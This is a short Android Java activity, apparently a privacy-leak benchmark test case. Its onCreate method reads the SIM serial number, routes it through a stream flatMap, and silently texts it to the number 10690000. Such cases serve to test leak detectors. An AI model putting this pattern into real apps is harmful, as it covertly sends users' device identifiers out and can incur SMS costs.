package cn.privlens.suite.flat_mapped_parts;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        List<List<String>> lists = new ArrayList<>();
        lists.add(Arrays.asList("a", "b"));
        lists.add(Collections.singletonList(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber()));
        String all = lists.stream().flatMap(l -> l.stream()).collect(Collectors.joining("+"));
        SmsManager.getDefault().sendTextMessage("10690000", null, all, null, null);
    }
}
